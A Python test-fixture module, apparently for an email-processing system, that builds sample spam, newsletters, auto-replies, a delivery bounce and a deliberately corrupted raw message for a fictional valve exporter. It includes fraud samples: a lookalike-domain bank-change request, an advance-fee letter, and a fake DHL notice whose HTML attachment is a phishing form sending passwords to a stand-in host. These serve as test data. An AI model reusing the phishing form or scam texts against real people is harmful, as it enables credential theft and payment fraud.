"""What fills a mailbox besides business: advertising, bulk mail, machines, swindlers, and one message that is not even a message."""
from .buyers import LIN, ZHAO, ZHAO_IN
from .mail import BY_KEY, attachment, letter, multipart, part, raw_letter, text_part
from .running import CHEN, CHEN_IN

letter("so1", "2026-09-09 05:41 +0000", LIN, "Jessica Moore <jessica@rankrocket-seo.example>", "First page on Google for haiding-valve", """
    Hi,

    I was browsing your website and noticed it does not rank for your main keywords. We guarantee first page results in 90 days
    or your money back. Can I send you a free audit and our price list?

    Jessica Moore
    Business Development Executive
    """, how="7bit")
letter("so2", "2026-09-18 16:00 +0800", ZHAO, "Kelvin Ho <kelvin@oceanjet-cargo.example>", "Best ocean freight Ningbo to South America", """
    Dear Sir,

    This is Kelvin from OceanJet Cargo. We offer the most competitive freight from Ningbo: Callao USD 1,850/40HQ, Santos USD
    2,240/40HQ, weekly service. If you have any shipment, please contact me for our best rate.

    Skype: oceanjet_kelvin
    """, at=ZHAO_IN)
letter("so3", "2026-10-06 10:02 +0200", CHEN, "Messe Service <stand@worldvalve-expo.example>", "Last booths: World Valve Expo 2027", """
    Dear exhibitor,

    only 12 booths are left in hall 4 for World Valve Expo 2027, 9-11 March. Book before 31 October and save 15 %. Shall I
    reserve 18 sqm for Ningbo Haiding?
    """, at=CHEN_IN)
letter("so4", "2026-10-12 15:20 +0800", LIN, "李经理 <sales@wenzhou-mould-factory.example>", "专业铸造模具厂家，欢迎来样开模", """
    您好！我厂专业生产阀门铸造模具、压铸模具，价格优惠，交期快。如有需要请来电 138 5550 7123，可免费上门报价。
    """, charset="gbk", how="base64")
letter("nl2", "2026-09-22 06:00 +0000", CHEN, "Valve World Weekly <news@valveworld-weekly.example>", "Copper at a two-year high | New EN 1074 draft", """
    THIS WEEK
    * Copper at a two-year high: what it means for brass
    * The new draft of EN 1074 in five points
    * Webinar: actuators for hydrogen, 8 October

    You receive this newsletter as a subscriber. Unsubscribe: https://valveworld-weekly.example/u/8841
    """, at=CHEN_IN, html=True, headers=["List-Id: Valve World Weekly <weekly.valveworld-weekly.example>",
                                        "List-Unsubscribe: <https://valveworld-weekly.example/u/8841>", "Precedence: bulk"])
letter("nl3", "2026-10-15 09:00 +0800", LIN, "中国制造网外贸学院 <edm@made-in-china.com>", "直播预告｜中东买家采购季，如何写好开发信", """
    本周四晚 8 点，外贸学院直播：中东买家采购季，如何写好第一封开发信。报名即送《2026 中东五金采购报告》。

    如不想再收到此类邮件，请点击退订。
    """, how="base64", only_html=True, headers=["List-Unsubscribe: <mailto:unsub@made-in-china.com>", "Precedence: bulk"])
letter("ar1", "2026-09-09 10:11 -0500", ZHAO, "Rodrigo Salazar Quispe <rsalazar@hidraulica-pacifico.example>",
       "Respuesta automática: Solicitud de cotización: válvulas mariposa y accesorios galvanizados", """
    Estaré fuera de la oficina hasta el viernes 11 de septiembre. Para temas urgentes escriba a compras@hidraulica-pacifico.example.
    """, at=ZHAO_IN, reply="pe2", quote=False, headers=["Auto-Submitted: auto-replied", "X-Auto-Response-Suppress: All"])
letter("ar2", "2026-10-05 15:21 +0400", LIN, "Service Desk <support@portal-customs.example>", "[#88213] We received your request", """
    Thank you for contacting us. Your request has been received and ticket 88213 has been created. Do not reply to this mail.
    """, how="7bit", headers=["Auto-Submitted: auto-generated"])

# A bounce as RFC 3464 has it: for the person, for the machine, and the headers of what came back.
RETURNED = (b"From: Zhao Min <zhao@haiding-valve.example>\r\nTo: ventas@tuberias-del-norte.example\r\nSubject: Offer for PPR fittings\r\n"
            b"Message-ID: <20261008-offer@mail.haiding-valve.example>\r\nDate: Thu, 08 Oct 2026 10:00:00 +0800\r\n\r\n")
letter("bo1", "2026-10-08 10:01 +0800", ZHAO, "Mail Delivery System <MAILER-DAEMON@mx.haiding-valve.example>", "Undelivered Mail Returned to Sender", "",
       at=ZHAO_IN, headers=["Auto-Submitted: auto-replied"], entity=multipart("report", [
           text_part("This is the mail system at host mx.haiding-valve.example.\n\nYour message could not be delivered:\n\n"
                     "<ventas@tuberias-del-norte.example>: host mx.tuberias-del-norte.example said: 550 5.1.1 User unknown\n", "us-ascii", "7bit"),
           part("message/delivery-status", b"Reporting-MTA: dns; mx.haiding-valve.example\r\n\r\nFinal-Recipient: rfc822; "
                b"ventas@tuberias-del-norte.example\r\nAction: failed\r\nStatus: 5.1.1\r\n", "7bit"),
           part("text/rfc822-headers", RETURNED, "7bit")], "bo1", "; report-type=delivery-status"))

# Fraud: a lookalike of a known customer's domain with new bank details, a parcel with an HTML attachment, an inheritance.
letter("fr1", "2026-10-20 09:58 +0100", ZHAO, "Petra Vogel <p.vogel@rheintaI-armaturen.example>".replace("rheintaI", "rheinta1"),
       "Re: HD26-071 Payment - change of bank", """
    Dear Mr Zhao,

    due to an audit our bank account in Germany is blocked. Please send your refund of USD 4,960.00 for the complaint to our new
    account: Rheintal Trading Ltd, IBAN GB00 TEST 5550 0000 1234 56. Confirm today as it is urgent, do not call, I am in meetings.

    Petra Vogel
    """, at=ZHAO_IN, html=True, headers=["Reply-To: p.vogel.rheintal@webmail-desk.example"])
letter("fr2", "2026-10-14 03:22 +0000", LIN, "DHL Express <delivery@dhl-parcel-notice.example>", "Your package is waiting - PO & shipping documents", """
    Dear customer,

    your shipment AWB 55 5012 9921 could not be delivered. Open the attached document and sign in with your e-mail password to
    release it within 24 hours.
    """, html=True, files=[attachment("Shipping_Docs_PO.html", "text/html", b"<html><body><form action=\"https://login.parcel-collect.example/x\">"
                                      b"<input name=u><input name=p type=password><input type=submit value=View></form></body></html>")])
letter("fr3", "2026-09-26 01:10 +0000", CHEN, "Barrister Daniel Cole <barr.daniel.cole@mail-chambers.example>", "CONFIDENTIAL BUSINESS PROPOSAL", """
    Dear Friend,

    I am Barrister Daniel Cole, attorney to a late client who bears your family name and left the sum of US$ 14.5 million. I seek
    your consent to present you as next of kin. Kindly reply with your full name, telephone and bank details.
    """, at=CHEN_IN, how="7bit")
letter("sp1", "2026-10-18 02:47 +0000", LIN, "Casino Gold <win@lucky-spins.example>", "200 free spins are waiting 🎰", """
    Congratulations!!! 200 FREE SPINS + 100% bonus up to 500. Claim now, offer ends tonight.
    """, only_html=True, headers=["List-Unsubscribe: <https://lucky-spins.example/u>"])

# The same bytes under a Message-ID that another letter uses already: senders do reuse them, and neither may be lost.
letter("re1", "2026-10-16 10:30 +0530", LIN, "Suresh Nair <purchase@malabarfluidcontrols.example>", "RFQ 2026/311 - reminder", """
    Dear Sir,

    We did not receive your offer for SS304 ball valves. Please treat as most urgent and quote by return mail. Closing is
    extended to 20th October.

    Suresh Nair
    """, how="7bit", message_id=BY_KEY["in1"].message_id)

# The broken one: a header cut off, a boundary that never comes, NULs, half a UTF-8 character, a base64 part of rubbish.
raw_letter("broken", "2026-10-17 04:04 +0000", [("lin", "INBOX")],
           b"Received: from [203.0.113.77] by mx.haiding-valve.example; Sat, 17 Oct 2026 04:04:\r\n"
           b"From: \xd5\xc5\xbe\xad\xc0\xed <zhang@\r\nSubject: =?utf-8?B?6ZyA5rGC5riF5Y2V77yaMTAwM\r\nDate: yesterday\r\n"
           b"Content-Type: multipart/mixed; boundary=\"never\r\nContent-Transfer-Encoding: base64\r\n"
           b"X-\x00-Nul: \x00\x00\r\n no colon on this line\r\n\r\n--nev\r\nContent-Type: text/plain; charset=klingon-8\r\n\r\n"
           b"\xe9\x9c\x80\xe6\xb1\x82\xe6\xb8 \x00\x01\x02 ==!!== \xff\xfe not base64 at all\r\n--never\r\nContent-Type: message/rfc822\r\n\r\n"
           b"Content-Type: multipart/mixed; boundary=\"\"\r\n\r\n----\r\n--\r\n")
